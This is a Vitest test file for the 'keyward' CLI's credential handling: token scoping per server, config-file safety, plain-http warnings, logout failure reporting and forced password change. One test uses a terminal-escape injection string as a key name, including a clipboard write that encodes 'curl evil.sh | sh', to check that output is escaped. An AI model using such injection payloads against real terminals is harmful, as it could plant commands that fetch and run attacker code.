import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { type IncomingHttpHeaders, type Server, createServer } from "node:http";
import { createServer as createTcpServer, connect } from "node:net";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { cliSuite } from "./run.js";

const ESC = String.fromCharCode(27);
const BEL = String.fromCharCode(7);

const { suite, kw } = cliSuite("keyward-cli-credentials-");
const configFile = () => path.join(suite.configHome, "keyward", "config.json");

/** A stand-in HTTP server that records what it receives and answers like Keyward would. */
async function capture(host = "127.0.0.1") {
  const seen: { method?: string; url?: string; headers: IncomingHttpHeaders; body: string }[] = [];
  const srv: Server = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      seen.push({ method: req.method, url: req.url, headers: req.headers, body });
      res.setHeader("content-type", "application/json");
      if (req.url === "/v1/auth/login") {
        res.end(
          JSON.stringify({
            token: "sess_fromcapture0000000000000000000",
            csrfToken: "x",
            expiresAt: new Date(Date.now() + 3600_000).toISOString(),
            user: { id: "usr_x", email: "a@example.com", name: "a", mustChangePassword: false, createdAt: "" },
          }),
        );
      } else if (req.url?.startsWith("/v1/orgs")) {
        res.end(JSON.stringify({ items: [], nextCursor: null }));
      } else {
        res.end(JSON.stringify({ principal: { type: "user", id: "usr_x" }, credential: { type: "session", id: "s" } }));
      }
    });
  });
  await new Promise<void>((r) => srv.listen(0, host, r));
  const port = (srv.address() as { port: number }).port;
  return { seen, port, close: () => new Promise<void>((r) => srv.close(() => r())) };
}

describe("credentials the CLI holds", () => {
  it("does not send a profile's session token to another server given by --url / KEYWARD_URL", async () => {
    const login = await kw(
      ["login", "--url", suite.server.url, "--email", suite.server.email, "--password-stdin"],
      {},
      `${suite.server.password}\n`,
    );
    expect(login.code, login.stderr).toBe(0);
    const token = JSON.parse(readFileSync(configFile(), "utf8")).profiles.default.token as string;
    expect(token).toMatch(/^sess_/);

    const other = await capture();
    try {
      const flag = await kw(["whoami", "--url", `http://127.0.0.1:${other.port}`]);
      const envUrl = await kw(["keys", "list", "--org", "org_x"], { KEYWARD_URL: `http://127.0.0.1:${other.port}` });
      const leaked = other.seen.filter((r) => String(r.headers.authorization ?? "").includes(token));
      // The session belongs to the profile's server; another host must never receive it.
      expect(leaked.map((r) => `${r.method} ${r.url}`)).toEqual([]);
      for (const r of [flag, envUrl]) {
        expect(r.code).toBe(2);
        expect(r.stderr).toContain(`holds credentials for ${suite.server.url}`);
      }
      // An explicit KEYWARD_API_KEY goes where it is told.
      const explicit = await kw(["whoami", "--url", `http://127.0.0.1:${other.port}`], { KEYWARD_API_KEY: "kw_given" });
      expect(explicit.code).toBe(0);
      expect(other.seen.at(-1)?.headers.authorization).toBe("Bearer kw_given");
    } finally {
      await other.close();
    }
  });

  it("keeps the other profiles when the config file cannot be parsed (no silent wipe)", async () => {
    const file = configFile();
    mkdirSync(path.dirname(file), { recursive: true });
    // A hand edit left a trailing comma: two profiles, one of them holding an API key.
    const text = `{
  "current": "prod",
  "profiles": {
    "prod": { "url": "https://keys.example.com", "apiKey": "kw_prodkeyprodkeyprodkeyprodkeyprodkey" },
    "staging": { "url": "https://staging.example.com", "token": "sess_abc" },
  }
}
`;
    writeFileSync(file, text, { mode: 0o600 });
    const r = await kw(
      ["login", "--url", suite.server.url, "--email", suite.server.email, "--password-stdin", "--profile", "local"],
      {},
      `${suite.server.password}\n`,
    );
    // Refused, naming the file, and the file left as it was.
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(file);
    expect(readFileSync(file, "utf8")).toBe(text);
  });

  it("prints no terminal control sequences taken from API data (key names) in table output", async () => {
    writeFileSync(configFile(), JSON.stringify({ profiles: {} }), { mode: 0o600 });
    const login = await kw(
      ["login", "--url", suite.server.url, "--email", suite.server.email, "--password-stdin", "--json"],
      {},
      `${suite.server.password}\n`,
    );
    expect(login.code, login.stderr).toBe(0);
    // Any member who may create keys chooses the name; an admin lists everyone's keys.
    const evil = "ok\u001b[2J\u001b[H\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
    const created = await kw(["keys", "create", evil, "--json"]);
    expect(created.code, created.stderr).toBe(0);
    const list = await kw(["keys", "list", "--view", "all"]);
    expect(list.code, list.stderr).toBe(0);
    // stdout is not a TTY here, so the CLI adds no colour: every ESC / BEL comes from the data.
    expect(list.stdout).not.toContain(ESC);
    expect(list.stdout).not.toContain(BEL);
    const get = await kw(["keys", "get", created.json().apiKey.id]);
    expect(get.stdout).not.toContain(ESC);
    expect(get.stdout).toContain("ok\\x1b[2J"); // shown, escaped
    // --json keeps the name as it is (JSON escapes it).
    expect((await kw(["keys", "get", created.json().apiKey.id, "--json"])).json().name).toBe(evil);
  });

  it("warns before sending a password over plain http to a non-local host", async () => {
    const other = await capture("0.0.0.0");
    try {
      const url = `http://192.0.2.2:${other.port}`;
      const r = await kw(
        ["login", "--url", url, "--email", "a@example.com", "--password-stdin", "--profile", "plain"],
        {},
        "a-password-123\n",
      );
      const sentPassword = other.seen.some((s) => s.body.includes("a-password-123"));
      expect(sentPassword).toBe(true);
      expect(r.stderr).toContain(`Warning: ${url} is plain http`);
      // Not for this machine.
      const local = await kw(
        ["login", "--url", suite.server.url, "--email", suite.server.email, "--password-stdin", "--profile", "plain"],
        {},
        `${suite.server.password}\n`,
      );
      expect(local.stderr).not.toContain("Warning");
    } finally {
      await other.close();
    }
  });

  it("does not report a successful sign-out when the server never ended the session", async () => {
    // A TCP relay to the real server: the profile's URL goes through it.
    const target = new URL(suite.server.url);
    const relay = createTcpServer((c) => {
      const up = connect(Number(target.port), target.hostname);
      c.pipe(up).pipe(c);
      c.on("error", () => up.destroy());
      up.on("error", () => c.destroy());
    });
    await new Promise<void>((r) => relay.listen(0, "127.0.0.1", r));
    const url = `http://127.0.0.1:${(relay.address() as { port: number }).port}`;
    const login = await kw(
      ["login", "--url", url, "--email", suite.server.email, "--password-stdin", "--profile", "relayed"],
      {},
      `${suite.server.password}\n`,
    );
    expect(login.code, login.stderr).toBe(0);
    const token = JSON.parse(readFileSync(configFile(), "utf8")).profiles.relayed.token as string;
    // The network goes away (VPN down, server restarting) just when the user signs out.
    await new Promise<void>((r) => relay.close(() => r()));
    const out = await kw(["logout", "--profile", "relayed"]);
    const stillValid = (await fetch(`${suite.server.url}/v1/me`, { headers: { authorization: `Bearer ${token}` } }))
      .status;
    expect(stillValid).toBe(200); // the server never heard of the logout
    // …so the CLI does not claim it did, and keeps the profile to try again.
    expect(out.stderr).toContain("Could not end the session");
    expect(out.code).toBe(1);
    expect(JSON.parse(readFileSync(configFile(), "utf8")).profiles.relayed.token).toBe(token);
  });

  it("signs in with a reset password and changes it with `keyward password` before anything else", async () => {
    writeFileSync(configFile(), JSON.stringify({ profiles: {} }), { mode: 0o600 });
    const reset = await kw(["admin", "reset-password", suite.server.email, "--json"], suite.server.env);
    expect(reset.code, reset.stderr).toBe(0);
    const { password } = reset.json();
    const login = await kw(
      ["login", "--url", suite.server.url, "--email", suite.server.email, "--password-stdin", "--json"],
      {},
      `${password}\n`,
    );
    expect(login.code, login.stderr).toBe(0);
    expect(login.json().mustChangePassword).toBe(true);
    expect(login.stderr).toContain("keyward password");
    const early = await kw(["orgs", "list"]);
    expect(early.code).toBe(1);
    expect(early.stderr).toContain("PASSWORD_CHANGE_REQUIRED");
    const changed = await kw(["password", "--stdin"], {}, `${password}\n${suite.server.password}\n`);
    expect(changed.code, changed.stderr).toBe(0);
    expect(changed.stdout).toContain("Password changed");
    expect((await kw(["orgs", "list"])).code).toBe(0);
    const wrong = await kw(["password", "--stdin"], {}, "not-the-password\nanother-password-1\n");
    expect(wrong.code).toBe(1);
    expect(wrong.stderr).toContain("currentPassword");
  });
});
